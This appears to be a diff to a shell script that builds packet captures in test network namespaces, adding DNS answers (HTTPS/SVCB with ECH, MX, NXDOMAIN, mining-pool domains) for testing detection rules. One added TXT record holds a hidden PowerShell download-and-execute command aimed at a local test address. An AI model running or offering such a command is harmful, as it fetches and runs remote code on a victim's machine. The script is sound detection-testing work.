@@ -12,6 +12,7 @@
 #   netns client                               netns server
 #   tw-c0 10.20.0.2/24 10.20.0.3/24 fd20::2/64 <-veth-> tw-s0 10.20.0.1/24 fd20::1/64
 #                                                       + 10.20.0.11-14,16-18 fd20::15 (resolve_connect)
+#                                                       + 10.20.0.19 (dns_answers)
 #   tw-cv100 (tap) 10.20.100.2 fd20:100::2  <-802.1Q 100 on the veth->  tw-sv100 .1
 #   tw-cv200 (tap) 10.20.200.2 fd20:200::2  <-802.1ad 200 + 802.1Q 300->  tw-sv200 .1
 #   tw-cr0   (tap) 10.20.50.2 (MTU 300)     <-untagged, reordering->     tw-sr0 .1
@@ -40,7 +41,7 @@ SRV6=fd20::1
 LONG=$(printf '%063d' 0 | tr 0 a).$(printf '%063d' 0 | tr 0 b).$(printf '%063d' 0 | tr 0 c).$(printf '%046d' 0 | tr 0 d).ngrok-free.app
 
 # Captures that can be asked for by name (the section names below); none = all of them.
-CAPTURES="tunnels dns_tcp tls_small_mss ipv6_vlan connect_proxy pq_hello linktypes resolve_connect quic http tls_lenient"
+CAPTURES="tunnels dns_tcp tls_small_mss ipv6_vlan connect_proxy pq_hello linktypes resolve_connect quic http tls_lenient dns_answers"
 WANT=""
 for a in "$@"; do
     n=${a#pcaps/}; n=${n%/}; n=${n%.pcapng}; n=${n%.pcap}
@@ -117,6 +118,8 @@ ip -n "$S" addr add 10.20.0.1/24 dev tw-s0
 ip -n "$S" addr add fd20::1/64 dev tw-s0 nodad
 # resolve_connect: one server address per resolved name, none of them answered by a wildcard
 for i in 11 12 13 14 16 17 18; do ip -n "$S" addr add 10.20.0.$i/24 dev tw-s0; done
+# dns_answers: the address several names share
+ip -n "$S" addr add 10.20.0.19/24 dev tw-s0
 ip -n "$S" addr add fd20::15/64 dev tw-s0 nodad
 # No TSO/GSO/GRO: the capture must show the segments as they are on the wire,
 # not one 64 KB super-segment that the stack splits after the capture point.
@@ -175,8 +178,23 @@ DNSMASQ_ADDR="$DNSMASQ_ADDR --host-record=x7k2.localto.net,10.20.0.11,300
     --cname=files.example-corp.com,amber-fox.trycloudflare.com,300 --host-record=ranch-lime.gl.at.ply.gg,10.20.0.14,300
     --host-record=rnkqz-203-0-113-9.a.free.pinggy.link,fd20::15,300 --host-record=7.tcp.ngrok.io,10.20.0.17,300
     --host-record=r2d2.localtonet.com,10.20.0.18,300"
+# dns_answers: names sharing 10.20.0.19; HTTPS records (RFC 9460 RDATA in hex, as ldns writes
+# "1 . alpn=h2,h3 ipv4hint=10.20.0.19 ech=AEX+DQBB..." (an ECHConfigList for the public name
+# cloudflare-ech.com), "1 . alpn=h2"), an SVCB record ("1 doh.ech-demo.example.
+# alpn=h2 dohpath=/dns-query{?dns}"), a TXT record with a command line, an MX, a domain
+# answered NXDOMAIN, two mining-pool domains (one answered 0.0.0.0).
+ECH_HTTPS=00010000010006026832026833000400040a140013000500470045fe0d00413300200020501da1bcb34aea6ceffc1a7fe415427bc1b787165363c4bc26ee94dd8092ec0d0004000100010012636c6f7564666c6172652d6563682e636f6d0000
+PLAIN_HTTPS=00010000010003026832
+DOH_SVCB=000103646f68086563682d64656d6f076578616d706c650000010003026832000700102f646e732d71756572797b3f646e737d
+for n in alpha beta secret z; do DNSMASQ_ADDR="$DNSMASQ_ADDR --host-record=$n.ech-demo.example,10.20.0.19,300"; done
+DNSMASQ_ADDR="$DNSMASQ_ADDR --dns-rr=secret.ech-demo.example,65,$ECH_HTTPS
+    --dns-rr=plain.ech-demo.example,65,$PLAIN_HTTPS --dns-rr=_dns.resolver.ech-demo.example,64,$DOH_SVCB
+    --mx-host=mail.ech-demo.example,mx1.ech-demo.example,10 --address=/nx-demo.example/
+    --address=/supportxmr.com/10.20.0.19 --address=/minexmr.com/0.0.0.0"
 bg ip netns exec "$S" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root --group=root --pid-file= \
-    --log-queries --log-facility=- $DNSMASQ_ADDR >"$WORK/dnsmasq.log" 2>&1
+    --log-queries --log-facility=- $DNSMASQ_ADDR \
+    "--txt-record=cmd.ech-demo.example,powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(http://10.20.0.19/a)" \
+    >"$WORK/dnsmasq.log" 2>&1
 
 cat >"$WORK/tinyproxy.conf" <<CONF
 User root
@@ -546,6 +564,32 @@ if want tls_lenient; then
     cap_stop
     cp "$WORK/servers.tsv" "$OUT/tls_lenient.servers.tsv"
     grep -c accepted "$OUT/tls_lenient.servers.tsv" | sed 's/^/accepted: /'
+fi
+
+# 12. dns_answers.pcap -- DNS responses as rules read them: HTTPS/SVCB records (one with ech=),
+# TXT, MX, NXDOMAIN, the reserved Z bit, SigmaHQ's mining-pool and TXT rules; then names that
+# share one address, each connected to by its SNI, and a hello naming only an ECH public name
+if want dns_answers; then
+    log dns_answers.pcap
+    qn() { q +noadflag "$@"; }   # no AD bit in the query: Zeek's Z is 0 unless set below
+    cap_start "$C" "$OUT/dns_answers.pcap" tcpdump -i tw-c0
+    qn @$SRV plain.ech-demo.example HTTPS
+    qn @$SRV secret.ech-demo.example HTTPS                     # ech=
+    qn +tcp @$SRV secret.ech-demo.example HTTPS                # the same over TCP
+    qn @$SRV _dns.resolver.ech-demo.example SVCB
+    qn @$SRV cmd.ech-demo.example TXT
+    qn @$SRV mail.ech-demo.example MX
+    qn @$SRV gone.nx-demo.example A                            # NXDOMAIN
+    q +zflag +noadflag @$SRV z.ech-demo.example A              # the reserved Z bit set
+    qn @$SRV pool.supportxmr.com A
+    qn @$SRV pool.minexmr.com A                                # answered 0.0.0.0
+    qn @$SRV alpha.ech-demo.example A
+    qn @$SRV beta.ech-demo.example A
+    tls 10.20.0.19:443 alpha.ech-demo.example                  # not the name resolved last
+    tls 10.20.0.19:443 beta.ech-demo.example
+    qn @$SRV secret.ech-demo.example A
+    tls 10.20.0.19:443 public.ech-demo.example                 # never resolved: as an ECH outer SNI
+    cap_stop
 fi
 
 # ------------------------------------------------------------ name tables
